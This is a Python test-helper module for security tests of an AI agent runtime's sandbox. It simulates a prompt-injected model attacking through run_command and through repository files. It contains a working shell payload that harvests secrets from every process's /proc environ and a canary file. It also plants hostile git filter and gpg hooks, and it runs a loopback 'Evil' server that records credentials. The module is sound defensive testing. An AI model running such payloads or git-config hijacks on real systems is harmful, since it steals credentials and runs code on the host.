"""What the attack tests share: the secrets planted in the test's environment, a host folder
no sandbox can reach (where a hostile program that ran on the host leaves its mark), the
hostile program itself, origins (a bare repository, or one served over loopback HTTP that
wants a token) and a second loopback server that records whoever calls it.

The attacker's moves are made the way an attacker makes them: by a sandboxed ``run_command``
(what a prompt-injected model does) or by files the repository ships. The test's own git only
ever runs in repositories the test made (the origin, a seed checkout), never in a workspace an
attack has touched: that would run the hostile configuration itself.
"""

from __future__ import annotations

import asyncio
import base64
import os
import shlex
import shutil
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypeVar, cast
from urllib.parse import urlsplit

from runtime.tools.base import Completed, Started, Tool, ToolContext, Unknown
from runtime.tools.devbox import RunCommand
from runtime.workspace import Sandbox, Workspaces, WorkspaceSpec
from runtime.workspace.sandbox import SandboxMode

TOOL_TIMEOUT_S = 60.0  # every tool call of an attack ends by then, whatever the payload does

# -- secrets: in the test process's environment and in a host process's initial environment --

SECRET_NAMES = (
    "SLACK_BOT_TOKEN",
    "SLACK_SIGNING_SECRET",
    "KEEL_ATTACK_SECRET",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "GITHUB_APP_PRIVATE_KEY",
    "DATABASE_PASSWORD",  # no secret-looking prefix: the sandbox's environment is an allow-list
)
LOOT_MARK = "s3cr3t"  # every planted secret contains it; the payload greps for it
SECRETS: dict[str, str] = {
    name: f"{LOOT_MARK}-{name.lower().replace('_', '-')}-{uuid.uuid4().hex}"
    for name in SECRET_NAMES
}
CANARY = f"host-canary-{uuid.uuid4().hex}"  # the content of host files no sandbox may read
SENTINEL_TAG = f"keel-sentinel-{uuid.uuid4().hex[:12]}"  # argv[0] of a host process


@contextmanager
def secret_environment(extra: Mapping[str, str] | None = None) -> Iterator[subprocess.Popen[bytes]]:
    """The secrets set in this process's environment (what Keel's own children could inherit)
    and in the initial environment of a long-lived host process, ``/proc/<pid>/environ`` of
    which is what a program running on the host as Keel's user reads (a variable set after a
    process started is not in its ``/proc/<pid>/environ``, so the test process's own would
    not show them)."""
    secrets = {**SECRETS, **(extra or {})}
    saved = {name: os.environ.get(name) for name in secrets}
    os.environ.update(secrets)
    sentinel = subprocess.Popen(
        ["bash", "-c", "sleep 900; :", SENTINEL_TAG],
        env={"PATH": "/usr/bin:/bin", **secrets},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield sentinel
    finally:
        sentinel.kill()
        sentinel.wait(timeout=10)
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


def leaks(texts: Iterable[str], secrets: Iterable[str] = ()) -> list[str]:
    """Each secret (or the host canary) found in any of ``texts``, named by its start."""
    wanted = [*SECRETS.values(), CANARY, *secrets]
    joined = "\n".join(texts)
    return [secret[:24] + "…" for secret in wanted if secret and secret in joined]


def assert_clean(texts: Iterable[str], secrets: Iterable[str] = (), where: str = "output") -> None:
    found = leaks(list(texts), secrets)
    assert not found, f"secret(s) {found} leaked into {where}"


# -- the host: a folder for marks no sandbox can reach, and a vault of files it must not read --


@dataclass(frozen=True, slots=True)
class Host:
    """``drop``: where a program that ran on the host writes (nothing else ever does);
    ``vault``: host files holding the canary (``canary.txt``, a database file, a ``bin``)."""

    drop: Path
    vault: Path

    def marks(self) -> list[str]:
        return sorted(p.name for p in self.drop.iterdir())

    def vault_entries(self) -> list[str]:
        return sorted(p.name for p in self.vault.iterdir())

    def assert_untouched(self) -> None:
        marks = self.marks()
        details = {m: (self.drop / m).read_text(errors="replace")[:300] for m in marks[:3]}
        assert not marks, f"a hostile program ran on the host: {marks} {details}"
        assert self.vault_entries() == VAULT_ENTRIES, f"the vault changed: {self.vault_entries()}"


VAULT_ENTRIES = ["bin", "canary.txt", "keel.db"]


@contextmanager
def host_folders() -> Iterator[Host]:
    """Both under /var/tmp: outside every workspace root and never bound into a sandbox."""
    base = Path(tempfile.mkdtemp(prefix="keel-attack-", dir="/var/tmp"))
    drop, vault = base / "drop", base / "vault"
    drop.mkdir()
    vault.mkdir()
    (vault / "bin").mkdir()
    (vault / "bin" / "python3").write_text(f"#!/bin/sh\necho {CANARY}\n")
    (vault / "canary.txt").write_text(f"{CANARY}\n")
    (vault / "keel.db").write_text(f"every transcript {CANARY}\n")
    for path in (base, drop, vault):
        path.chmod(0o777)  # a payload running on the host as another user could write too
    try:
        yield Host(drop, vault)
    finally:
        shutil.rmtree(base, ignore_errors=True)


# -- the hostile program ---------------------------------------------------------------------

PAYLOAD = Path(".attack") / "pwn.sh"


def payload(ws: Path, host: Host) -> str:
    """A program for every config key that runs one: ``sh pwn.sh <label> <mode> [git's args]``.

    Wherever it runs it collects the environment of every process it can see, the host canary
    and its capabilities, then tries three ways out: a mark in the host folder (only possible
    on the host), a file in the workspace (which a later commit or read_file would carry out)
    and git's stderr (which tools report). ``mode`` makes it behave as git expects from that
    key (a filter copies stdin to stdout, a gpg program prints a signature, ...), and nothing
    in it waits for more than its stdin.
    """
    drop, vault = shlex.quote(str(host.drop)), shlex.quote(str(host.vault))
    return f"""#!/bin/sh
label="${{1:-unknown}}"; mode="${{2:-none}}"
shift 2 2>/dev/null
loot() {{
  echo "label=$label mode=$mode uid=$(id -u 2>/dev/null) pid=$$ pwd=$(pwd)"
  env 2>/dev/null
  for f in /proc/[0-9]*/environ; do tr '\\000' '\\n' < "$f" 2>/dev/null; echo; done
  cat {vault}/canary.txt 2>/dev/null
  grep -E '^(Cap|NoNewPrivs)' /proc/self/status 2>/dev/null
}}
found=$(loot 2>/dev/null)
{{ printf '%s\\n' "$found" > {drop}/ran-"$label"; }} 2>/dev/null
{{ printf '%s\\n' "$found" > {shlex.quote(str(ws))}/loot-"$label".txt; }} 2>/dev/null
printf '%s\\n' "$found" | grep -a -e {LOOT_MARK} -e host-canary >&2
case "$mode" in
  filter) cat ;;
  textconv) cat "$1" 2>/dev/null ;;
  stdin)
    {{ cat > {shlex.quote(str(ws))}/stdin-"$label".txt; }} 2>/dev/null
    {{ cp {shlex.quote(str(ws))}/stdin-"$label".txt {drop}/stdin-"$label"; }} 2>/dev/null ;;
  gpg)
    cat > /dev/null
    echo '[GNUPG:] SIG_CREATED D 1 8 00 1700000000 0123456789ABCDEF' >&2
    printf -- '-----BEGIN PGP SIGNATURE-----\\n\\nwsBcBAABCAAQBQJlAAAAAAkQ\\n'
    printf -- '-----END PGP SIGNATURE-----\\n' ;;
  fail) exit 1 ;;
esac
exit 0
"""


class Payloads:
    """Hands out one executable per label (``.attack/bin/<label>``, running the payload with
    that label and mode): git runs some keys through a shell and others (``gpg.program``) as a
    bare path, so an absolute path with no spaces suits both."""

    def __init__(self, ws: Path) -> None:
        self.ws = ws
        self.used: dict[str, str] = {}

    def __call__(self, label: str, mode: str = "none") -> str:
        self.used[label] = mode
        return str(self.ws / PAYLOAD.parent / "bin" / label)

    def files(self, host: Host) -> dict[str, str]:
        program = shlex.quote(str(self.ws / PAYLOAD))
        return {
            str(PAYLOAD): payload(self.ws, host),
            **{
                str(PAYLOAD.parent / "bin" / label): (
                    f'#!/bin/sh\nexec sh {program} {label} {mode} "$@"\n'
                )
                for label, mode in self.used.items()
            },
        }

    def executables(self) -> list[str]:
        return [str(PAYLOAD.parent / "bin" / label) for label in self.used]


def write_files_sh(files: Mapping[str, str], executable: Sequence[str] = ()) -> str:
    """Shell lines that write ``files`` (relative paths) byte for byte."""
    lines = []
    for name, content in files.items():
        encoded = base64.b64encode(content.encode()).decode()
        quoted = shlex.quote(name)
        lines.append(f'mkdir -p "$(dirname {quoted})" && echo {encoded} | base64 -d > {quoted}')
        if name in executable:
            lines.append(f"chmod +x {quoted}")
    return "\n".join(lines)


def relink_sh(path: str, target: str) -> str:
    """Shell that replaces ``path`` with a link to ``target``; its top folder is moved aside
    first (it may hold busy or read-only mount points, the command's own) and made again
    around the link."""
    top = path.split("/")[0]
    return (
        f"{{ mv {top} {top}.old-$$ 2>/dev/null; true; }} && mkdir -p $(dirname {path}) && "
        f"ln -sfn {target} {path} && ls -la $(dirname {path})"
    )


def git_config_sh(entries: Sequence[tuple[str, str]], file: str | None = None) -> str:
    where = f"--file {shlex.quote(file)} " if file else ""
    return "\n".join(
        f"git config {where}--add {shlex.quote(key)} {shlex.quote(value)}" for key, value in entries
    )


# -- repositories ----------------------------------------------------------------------------

GIT_ENV = {
    "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": "/dev/null",
    "GIT_AUTHOR_NAME": "Seed",
    "GIT_AUTHOR_EMAIL": "seed@example.com",
    "GIT_COMMITTER_NAME": "Seed",
    "GIT_COMMITTER_EMAIL": "seed@example.com",
    "LANG": "C",
}


async def plant_filter(sandbox: Sandbox, ws: Path, name: str, program: str) -> None:
    """What a hostile command does: a clean filter ``name`` for ``*.txt``, running the shell
    ``program`` (shipped in the workspace), configured in the workspace's ``.git/config``."""
    files = {".gitattributes": f"*.txt filter={name}\n", f".attack/{name}.sh": program}
    plant = "\n".join(
        [
            "set -e",
            write_files_sh(files, [f".attack/{name}.sh"]),
            git_config_sh([(f"filter.{name}.clean", f"sh {ws}/.attack/{name}.sh")]),
            "echo planted",
        ]
    )
    planted = await run(sandbox, ws, plant)
    assert "planted" in planted.output, planted.output


def git_sh(*args: str, cwd: Path | None = None, check: bool = True) -> str:
    """The test's own git, only ever in repositories the test made."""
    done = subprocess.run(
        ["git", *args], cwd=cwd, env=GIT_ENV, capture_output=True, text=True, timeout=60
    )
    if check and done.returncode != 0:
        raise AssertionError(f"git {args} failed: {done.stderr}")
    return done.stdout.strip()


def make_origin(
    bare: Path,
    files: Mapping[str, str],
    *,
    branch: str = "main",
    symlinks: Mapping[str, str] | None = None,
    executable: Sequence[str] = (),
    extra_branches: Sequence[str] = (),
) -> Path:
    """A bare repository whose default branch is ``branch``, with one commit shipping
    ``files`` and ``symlinks`` (name -> target), as an attacker's repository would."""
    bare.parent.mkdir(parents=True, exist_ok=True)
    git_sh("init", "-q", "--bare", "-b", branch, str(bare))
    with tempfile.TemporaryDirectory(dir=bare.parent) as scratch:
        seed = Path(scratch)
        git_sh("init", "-q", "-b", branch, cwd=seed)
        for name, content in files.items():
            (seed / name).parent.mkdir(parents=True, exist_ok=True)
            (seed / name).write_text(content)
            if name in executable:
                (seed / name).chmod(0o755)
        for name, target in (symlinks or {}).items():
            (seed / name).parent.mkdir(parents=True, exist_ok=True)
            (seed / name).symlink_to(target)
        git_sh("add", "--all", cwd=seed)
        git_sh("commit", "-qm", "init", cwd=seed)
        git_sh("push", "-q", str(bare), f"HEAD:refs/heads/{branch}", cwd=seed)
        for other in extra_branches:
            git_sh("push", "-q", str(bare), f"HEAD:refs/heads/{other}", cwd=seed)
    return bare


def branch_sha(bare: Path, branch: str) -> str | None:
    found = git_sh("rev-parse", "--verify", "-q", f"refs/heads/{branch}", cwd=bare, check=False)
    return found or None


def all_objects(bare: Path) -> str:
    """Every object in a repository the test made, as text: what a push carried out."""
    done = subprocess.run(
        ["git", "cat-file", "--batch-all-objects", "--batch"],
        cwd=bare,
        env=GIT_ENV,
        capture_output=True,
        timeout=60,
    )
    return done.stdout.decode("utf-8", "replace")


def workspace_texts(ws: Path) -> list[str]:
    """Every regular file under ``ws`` (``.git`` included), read without following links."""
    found: list[str] = []
    for folder, _, names in os.walk(ws):
        for name in names:
            path = Path(folder) / name
            if path.is_symlink() or not path.is_file():
                continue
            try:
                found.append(path.read_bytes()[: 1 << 20].decode("utf-8", "replace"))
            except OSError:
                continue
    return found


def state_of(ws: Path) -> Path:
    """Where the design keeps Keel's state for ``ws``: beside it, out of every sandbox."""
    return ws.parent / ".keel-state" / ws.name


# -- workspaces and tools --------------------------------------------------------------------


async def new_workspace(
    root: Path,
    origin: str,
    *,
    sandbox: SandboxMode = "bwrap",
    token: str | None = None,
    task: str = "root-1",
    ref: str | None = None,
) -> tuple[Workspaces, Path]:
    workspaces = Workspaces(root, sandbox)
    async with asyncio.timeout(TOOL_TIMEOUT_S):
        ws = await workspaces.ensure(WorkspaceSpec(task, origin, ref), token)
    return workspaces, ws


def context(ws: Path, call_id: str | None = None, task: str = "task-1") -> ToolContext:
    return ToolContext(
        task_id=task,
        root_task_id=ws.name,
        call_id=call_id or f"call-{uuid.uuid4().hex[:12]}",
        workspace=ws,
    )


async def settle(tool: Tool, args: dict[str, Any], ctx: ToolContext) -> Completed:
    """Start a tool call and poll it to its end, within TOOL_TIMEOUT_S."""
    async with asyncio.timeout(TOOL_TIMEOUT_S):
        started = await tool.start(args, ctx)
        if isinstance(started, Completed):
            return started
        assert isinstance(started, Started), started
        while True:
            result = await tool.poll(started.handle, ctx)
            if isinstance(result, Completed):
                return result
            await asyncio.sleep(0.03)


async def run(sandbox: Sandbox, ws: Path, command: str, output_limit: int = 1 << 16) -> Completed:
    """``command`` through the real run_command tool, to its end (with a larger window on
    its output than a model gets, so that nothing a probe printed falls in the gap)."""
    tool = RunCommand(sandbox, output_limit=output_limit)
    return await settle(tool, {"command": command, "timeout_s": 60}, context(ws))


def streams(output: str) -> tuple[str, str]:
    """(stdout, stderr) of a run_command report, without the command it quotes."""
    _, _, rest = output.partition("\n--- stdout")
    out, _, err = rest.partition("\n--- stderr")
    body = out.partition("\n")[2] if not out.startswith(": empty") else ""
    return body, err.partition("\n")[2] if not err.startswith(": empty") else ""


def sections(stdout: str) -> dict[str, str]:
    """A probe's output split at its ``@@name`` lines."""
    found: dict[str, list[str]] = {}
    current = found.setdefault("", [])
    for line in stdout.splitlines():
        if line.startswith("@@"):
            current = found.setdefault(line[2:].strip(), [])
        else:
            current.append(line)
    return {name: "\n".join(lines) for name, lines in found.items()}


async def reconcile(tool: Any, args: dict[str, Any], ctx: ToolContext) -> str:
    async with asyncio.timeout(TOOL_TIMEOUT_S):
        found = await tool.reconcile(args, ctx)
    return found.reason if isinstance(found, Unknown) else cast(Completed, found).output


async def preview(tool: Any, args: dict[str, Any], ctx: ToolContext) -> str:
    async with asyncio.timeout(TOOL_TIMEOUT_S):
        return cast(str, await tool.preview(args, ctx))


# -- loopback servers ------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Seen:
    method: str
    path: str
    headers: dict[str, str]

    @property
    def credentials(self) -> bool:
        return "authorization" in self.headers or "proxy-authorization" in self.headers


class _Recording(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.seen: list[Seen] = []
        self.lock = threading.Lock()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def record(self, seen: Seen) -> None:
        with self.lock:
            self.seen.append(seen)

    def answer(self, handler: _Handler, body: bytes) -> None:
        handler.send_response(401)
        handler.send_header("WWW-Authenticate", 'Basic realm="evil"')
        handler.send_header("Content-Length", "0")
        handler.end_headers()


class _Handler(BaseHTTPRequestHandler):
    def _any(self) -> None:
        server = cast(_Recording, self.server)
        headers = {k.lower(): v for k, v in self.headers.items()}
        server.record(Seen(self.command, self.path, headers))
        server.answer(self, _read_body(self))

    do_GET = do_POST = do_PUT = do_HEAD = do_CONNECT = do_OPTIONS = _any

    def log_message(self, format: str, *args: Any) -> None:
        return None


def _read_body(handler: BaseHTTPRequestHandler) -> bytes:
    if handler.headers.get("Transfer-Encoding", "").lower() == "chunked":
        chunks: list[bytes] = []
        while True:
            size = int(handler.rfile.readline().strip().split(b";")[0] or b"0", 16)
            if size == 0:
                handler.rfile.readline()
                return b"".join(chunks)
            chunks.append(handler.rfile.read(size))
            handler.rfile.readline()
    length = int(handler.headers.get("Content-Length") or 0)
    return handler.rfile.read(length) if length else b""


class Evil(_Recording):
    """The second loopback server: records every request and asks for Basic credentials."""

    def authorized(self) -> list[Seen]:
        return [s for s in self.seen if s.credentials]


class GitOrigin(_Recording):
    """A git remote over loopback HTTP (``git http-backend``) that answers only requests
    carrying ``token`` as the Basic password, as GitHub does for a private repository. With
    ``redirect_to`` set it answers every request with a 302 there instead."""

    def __init__(self, root: Path, token: str) -> None:
        super().__init__()
        self.root = root
        self.token = token
        self.redirect_to: str | None = None

    def answer(self, handler: _Handler, body: bytes) -> None:
        if self.redirect_to is not None:
            handler.send_response(302)
            handler.send_header("Location", self.redirect_to + handler.path)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        if _password(handler.headers.get("Authorization", "")) != self.token:
            super().answer(handler, body)
            return
        parts = urlsplit(handler.path)
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "GIT_PROJECT_ROOT": str(self.root),
            "GIT_HTTP_EXPORT_ALL": "1",
            "GIT_CONFIG_NOSYSTEM": "1",
            "HOME": str(self.root),
            "PATH_INFO": parts.path,
            "QUERY_STRING": parts.query,
            "REQUEST_METHOD": handler.command,
            "CONTENT_TYPE": handler.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "REMOTE_USER": "x-access-token",
            "REMOTE_ADDR": "127.0.0.1",
        }
        if encoding := handler.headers.get("Content-Encoding"):
            env["HTTP_CONTENT_ENCODING"] = encoding
        if protocol := handler.headers.get("Git-Protocol"):
            env["GIT_PROTOCOL"] = protocol
        done = subprocess.run(
            ["git", "http-backend"], input=body, env=env, capture_output=True, timeout=60
        )
        head, _, payload = done.stdout.partition(b"\r\n\r\n")
        if not _:
            head, _, payload = done.stdout.partition(b"\n\n")
        status, headers = 200, []
        for line in head.decode("latin-1").splitlines():
            key, _, value = line.partition(":")
            if key.lower() == "status":
                status = int(value.strip().split()[0])
            elif key:
                headers.append((key.strip(), value.strip()))
        handler.send_response(status)
        for key, value in headers:
            handler.send_header(key, value)
        handler.send_header("Content-Length", str(len(payload)))
        handler.end_headers()
        handler.wfile.write(payload)


def _password(header: str) -> str | None:
    scheme, _, encoded = header.partition(" ")
    if scheme.lower() != "basic":
        return None
    try:
        return base64.b64decode(encoded).decode().partition(":")[2]
    except ValueError:
        return None


Served = TypeVar("Served", bound=ThreadingHTTPServer)


@contextmanager
def serving(server: Served) -> Iterator[Served]:
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.daemon = True
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def wait_for(predicate: Any, timeout_s: float = 5.0) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return bool(predicate())


# -- the work-in-progress save, as the executor calls it at a budget ---------------------------


def migrated_sqlite(path: Path) -> str:
    from runtime.store.engine import make_engine
    from runtime.store.migrate import upgrade

    url = f"sqlite:///{path}"
    engine = make_engine(url)
    upgrade(engine)
    engine.dispose()
    return url


async def save_work_in(db_url: str, ws: Path, commit: Tool, push: Tool) -> str:
    """``runtime.executor.wip.save_work`` for a task working in ``ws``; what it said."""
    from runtime.clock import SystemClock
    from runtime.config import AgentConfig
    from runtime.executor.context import ExecutorContext
    from runtime.executor.wip import budget_ending, save_work
    from runtime.models.scripted import ScriptedProvider
    from runtime.scheduler import Scheduler
    from runtime.store.engine import Database
    from runtime.store.records import Task
    from tests.factories import make_spec

    async def workspace_for(task: Task) -> Path | None:
        return ws

    db = Database.from_url(db_url)
    try:
        scheduler = Scheduler(db)
        task = (
            await scheduler.transact(
                scheduler.schedule, make_spec(message=f"save {uuid.uuid4().hex}")
            )
        ).task
        ctx = ExecutorContext(
            db=db,
            scheduler=scheduler,
            provider=ScriptedProvider.from_dict({"scripts": [{"turns": [{"say": "ok"}]}]}),
            tools={"git_commit": commit, "git_push": push},
            agents={"default": AgentConfig(tools=("git_commit", "git_push"))},
            clock=SystemClock(),
            workspace_for=workspace_for,
        )
        async with asyncio.timeout(TOOL_TIMEOUT_S):
            saved = await save_work(task, ctx, budget_ending(1))
    finally:
        db.close()
    return "nothing saved" if saved is None else saved.note
